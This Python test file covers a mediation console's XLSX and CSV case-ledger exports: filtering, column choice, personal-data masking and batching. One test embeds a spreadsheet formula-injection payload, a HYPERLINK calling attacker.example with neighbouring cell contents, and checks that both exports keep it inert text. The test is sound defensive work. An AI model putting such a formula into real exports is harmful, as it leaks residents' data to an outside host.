"""The ledger export (电子台账): exactly the filtered cases, in the list's order, with the columns
asked for, as XLSX (opened with openpyxl) and CSV; personal data masked; more rows than one
batch of the keyset stream."""
from __future__ import annotations

import csv
import io

import openpyxl

from adapters.console import exports
from tests.console.conftest import PHONE, csrf_of, login, open_case


async def test_the_xlsx_holds_exactly_the_filtered_cases_with_the_columns_asked_for(client, ctx):
    numbers = [await open_case(ctx, f"x{i}", "DX01" if i % 3 else "NH01", "labour" if i % 2 else "neighbour",
                               text=f"第{i}件：老板拖欠工资，我是张三丰") for i in range(12)]
    await login(client, "centre-qs")
    r = await client.get("/console/cases.xlsx?type=labour&place=DX&sort=created&dir=asc"
                         "&cols=number,type,place,contact,summary")
    assert r.status == 200
    assert r.headers["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert "attachment" in r.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(await r.read()))
    rows = list(book["电子台账"].iter_rows(values_only=True))
    assert rows[0] == ("案件编号", "纠纷类型", "地点", "联系电话（已脱敏）", "反映内容（已脱敏）")
    expected = [n for i, n in enumerate(numbers) if i % 2 and i % 3]
    assert [row[0] for row in rows[1:]] == expected
    assert all(row[1] == "劳动争议" and row[2].startswith("东溪镇柳林村") for row in rows[1:])
    flat = "\n".join(str(v) for row in rows for v in row)
    assert PHONE not in flat and "138****5678" in flat and "张三丰" not in flat and "张**" in flat
    r = await client.get("/console/cases.xlsx?type=labour&cols=number,level")
    levels = [row[1] for row in openpyxl.load_workbook(io.BytesIO(await r.read()))["电子台账"].iter_rows(min_row=2, values_only=True)]
    assert levels and set(levels) <= {"村（社区）", "乡镇（街道）", "县"}, levels     # not "village"


async def test_the_csv_streams_past_one_batch_in_the_lists_order(client, ctx, monkeypatch):
    from storage import case_list
    real = case_list.stream_cases

    def small_batches(*args, **kw):            # several keyset batches with a dozen cases
        return real(*args, **{**kw, "batch": 5})
    monkeypatch.setattr(exports, "stream_cases", small_batches)
    numbers = [await open_case(ctx, f"c{i}", "DX02") for i in range(12)]
    await login(client, "med-dx")
    r = await client.get("/console/cases.csv?place=DX02")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
    text = (await r.read()).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["案件编号", "受理时间", "纠纷类型"] and len(rows[0]) == len(exports.DEFAULT)
    assert [row[0] for row in rows[1:]] == list(reversed(numbers))        # the list's default: newest first


async def test_an_unknown_column_or_filter_is_a_clear_400(client, ctx):
    await login(client, "centre-qs")
    r = await client.get("/console/cases.xlsx?cols=number,password")
    assert r.status == 400 and "password" in await r.text()
    assert (await client.get("/console/cases.csv?status=nonsense")).status == 400


async def test_a_residents_formula_stays_text_in_both_exports(client, ctx):
    """An outside trial reported "=HYPERLINK(…&B3&C3, …)" as a resident: the centre's XLSX held it
    as a live formula, carrying the next rows away when clicked; the CSV had it as it came."""
    formula = '=HYPERLINK("http://attacker.example/?"&B3&C3,"楼上邻居天天半夜吵")'
    number = await open_case(ctx, "f1", "DX01", "neighbour", text=formula)
    await open_case(ctx, "f2", "DX01", "neighbour", text="+1 楼上漏水")
    await login(client, "centre-qs")
    r = await client.get("/console/cases.xlsx?cols=number,summary&sort=created&dir=asc")
    book = openpyxl.load_workbook(io.BytesIO(await r.read()))
    cells = [row[1] for row in book["电子台账"].iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s", "s"] and cells[0].value.startswith("=HYPERLINK"), cells
    r = await client.get("/console/cases.csv?cols=number,summary&sort=created&dir=asc")
    rows = list(csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))))
    assert rows[1][0] == number and rows[1][1].startswith("'=HYPERLINK") and rows[2][1].startswith("'+1"), rows


async def test_the_ledger_keeps_the_result_the_dates_and_the_whole_words(client, ctx):
    """A newcomer's export had no result, no dispatch or closing dates, no satisfaction, and the
    words cut at about 80 characters."""
    long_text = "楼上天天半夜拖椅子，" * 15 + "我是张三丰，电话13812345678"
    number = await open_case(ctx, "led1", "DX01", text=long_text)
    await login(client, "gw-liulin")
    csrf = await csrf_of(client)
    for action, note in (("accept", ""), ("resolve", "双方同意，已垫椅脚垫")):
        r = await client.post(f"/console/cases/{number}/act", data={"csrf": csrf, "action": action, "note": note},
                              allow_redirects=False)
        assert r.status == 303
    r = await client.get("/console/cases.csv")
    rows = list(csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))))
    head, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert {"分派时间", "办结时间", "办理结果", "满意度"} <= set(head), head
    assert row["办理结果"] == "化解" and row["办结时间"] and row["分派时间"], row
    r = await client.get("/console/cases.csv?cols=number,description")
    full = list(csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))))[1][1]
    assert full.count("拖椅子") == 15 and "138****5678" in full and "张三丰" not in full, full
